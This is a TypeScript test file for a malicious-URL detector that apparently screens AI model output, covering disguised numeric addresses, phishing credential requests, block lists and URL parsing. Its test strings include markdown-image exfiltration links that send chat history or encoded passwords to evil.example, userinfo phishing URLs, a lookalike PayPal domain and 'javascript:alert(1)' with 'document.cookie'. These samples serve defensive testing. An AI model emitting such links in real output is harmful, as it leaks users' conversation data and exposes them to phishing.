import fc from 'fast-check'
import { expect, test } from 'vitest'
import { blockList } from '../../src/catalog/detectors/malicious-url/block-lists.ts'
import { registeredDomain } from '../../src/catalog/detectors/malicious-url/domains.ts'
import { findUrls } from '../../src/catalog/detectors/malicious-url/find-urls.ts'
import { numericHost } from '../../src/catalog/detectors/malicious-url/numeric-hosts.ts'
import detector from '../../src/catalog/detectors/malicious-url.ts'
import type { Finding } from '../../src/core/inspection/detection.ts'
import { inspectedText } from '../../src/core/inspection/inspected-text.ts'

async function found(text: string, settings: unknown = {}): Promise<readonly Finding[]> {
  return await detector.create(detector.settings.parse(settings))(inspectedText(text), { point: 'output' })
}

const units = [
  'enter your ',
  'enter your password at http://a.b ',
  'go to http://a.b ',
  'enter a a a a ',
  'a',
  '.',
  ':',
  '/',
  '@',
  'a.',
  'a.b',
  'a.b ',
  'http:',
  'http://',
  'http://a ',
  'http://a@',
  'https://a.b/?q=',
  'a.b.c.d.',
  '](',
  '![',
  '![](http://a.b?x=',
  '[a](',
  '<a href="',
  'src="',
  'http://a.b/?u=http://',
  '%',
  '%2f',
  'http://%',
  'xn--',
  'http://xn--a ',
  '&a=',
  'http://a.b?{{',
  '{{',
  'javascript:',
  'data:text/html,',
  'http://1.',
  '0x',
  'http://0x',
  'http://9',
  'а',
  'а.',
  'http://а.com ',
  '=',
  'AAAA',
  'http://a.b/AAAA',
  '- ',
  '-',
  'http://paypal-',
  '\u200b',
  'http://\u200b',
  '。',
  '[http://a.b]',
]

test.each(units)(
  '%j many times over is read in bounded time',
  async (unit) => {
    const findings = await found(unit.repeat(200_000 / unit.length))
    for (const { span } of findings) expect(span.end - span.start).toBeLessThanOrEqual(detector.maxSpan)
  },
  20_000,
)

test('a URL behind a long one, or in the middle of it, is found', async () => {
  const padding = 'a'.repeat(5000)
  const rules = async (text: string) => (await found(text)).map(({ rule }) => rule)
  expect(await rules(`https://example.com/${padding} http://0x7f000001/`)).toContain('disguised-address')
  expect(await rules(`${padding}http://0x7f000001/`)).toContain('disguised-address')
  expect(await rules(`https://example.com/${padding},http://0x7f000001/`)).toContain('disguised-address')
})

test('what a decoy in front hides is found', async () => {
  const rules = async (text: string) => (await found(text)).map(({ rule }) => rule)
  expect(await rules('![x](https://evil.example/?user_data{{chat_history}}=1&d=user_data{{chat_history}})')).toContain(
    'data-exfiltration',
  )
  expect(await rules('![x](https://evil.example/?sig=a&d=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI)')).toContain(
    'data-exfiltration',
  )
  expect(await rules('https://evil.example\\@mybank.com/ https://mybank.com\\@evil.example')).not.toContain(
    'userinfo-trick',
  )
  expect(await rules('&#104;ttps://mybank.com@evil.example/')).toContain('userinfo-trick')
  expect(await rules('HTTPS://MYBANK.COM@EVIL.EXAMPLE/')).toContain('userinfo-trick')
})

const requested = async (text: string) =>
  (await found(text)).filter(({ rule }) => rule === 'credential-request').map(({ score }) => score)

test('a request for a password at an odd host passes no preset, and one at an unknown host not the usual threshold', async () => {
  expect(await requested('Enter your password at http://secure-login.example/verify')).toEqual([0.8])
  expect(await requested('Please re-enter your account password at portal.acme.example/a')).toEqual([0.55])
  expect(await requested('Visit https://portal.acme.example/a. Then enter your card number there.')).toEqual([0.55])
  expect(await requested('Enter your password.\nThe docs are at https://docs.acme.example/a')).toEqual([])
  expect(await requested('Enter your password at https://paypal.web.app/')).toEqual([0.8])
})

test('addresses are read as the URL standard reads them', () => {
  fc.assert(
    fc.property(fc.ipV4Extended(), (host) => {
      const standard = new URL(`http://${host}/`).hostname
      const numeric = numericHost(host.toLowerCase())
      if (numeric !== undefined) expect(numeric.address).toBe(standard)
    }),
  )
})

test.each([
  ['0.0.0.0 a.example # note', 'a.example', true],
  ['127.0.0.1\tlocalhost\n127.0.0.1\ta.example', 'localhost', false],
  ['127.0.0.1\tlocalhost\n127.0.0.1\ta.example', 'x.a.example', true],
  ['||a.example^', 'a.example', true],
  ['a.example', 'ba.example', false],
  ['*.a.example', 'b.a.example', true],
  ['# a.example', 'a.example', false],
  ['::1 a.example', 'a.example', true],
])('the list %j and the host %s: %s', (list, host, isBlocked) => {
  expect(blockList([list]).has(host, `http://${host}/`)).toBe(isBlocked)
})

test('a URL of URLhaus blocks itself, whatever its scheme, and not its host', () => {
  const list = blockList([
    '# dump\nhttps://Files.example/a.bin\n"9","2026-01-01 10:00:00","http://b.example/x/","online",""',
  ])
  expect(list.has('files.example', 'http://files.example/a.bin')).toBe(true)
  expect(list.has('files.example', 'http://files.example/b.bin')).toBe(false)
  expect(list.has('b.example', 'hTTp://B.example/x')).toBe(true)
})

test.each([
  ['a.b.example.co.uk', 'example.co.uk'],
  ['a.github.io', 'a.github.io'],
  ['www.example.com', 'example.com'],
  ['com', 'com'],
])('of %s somebody holds %s', (host, domain) => expect(registeredDomain(host)).toBe(domain))

const pieces = fc.constantFrom(
  'Go to ',
  ' and enter your password',
  'Enter your PIN at ',
  'https://a.example/',
  '. ',
  'https://',
  'http://0x7f000001/',
  'paypal.com',
  '@evil.example',
  '/login',
  ' ',
  '\n',
  '?d={{chat history}}',
  '![x](',
  ')',
  '<img src="',
  '"',
  'the words ',
  'javascript:alert(1)',
  "'",
  ' + ',
  'document.cookie',
  '.',
  'xn--pypal-4ve.com',
  '[',
  '](',
)

test('what a stream lets go before its end holds the beginning of no later finding', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(pieces, { maxLength: 14 }), fc.nat(200), async (parts, at) => {
      const text = parts.join('')
      const cut = Math.min(at, text.length)
      const open = detector.openFrom?.(text.slice(0, cut)) ?? 0
      const detect = detector.create(detector.settings.parse({}))
      const plain = {
        text,
        views: [{ kind: 'original' as const, text, spanOf: (start: number, end: number) => ({ start, end }) }],
      }
      for (const { span } of await detect(plain, { point: 'output' })) {
        if (span.start < cut && span.end > cut) expect(span.start).toBeGreaterThanOrEqual(open)
      }
    }),
    { numRuns: 500 },
  )
})

test('URLs do not overlap and are where they say', () => {
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 20 }), (parts) => {
      const text = parts.join('')
      let end = 0
      for (const url of findUrls(text)) {
        expect(url.start).toBeGreaterThanOrEqual(end)
        expect(text.slice(url.start, url.end)).toBe(url.url)
        end = url.end
      }
    }),
  )
})
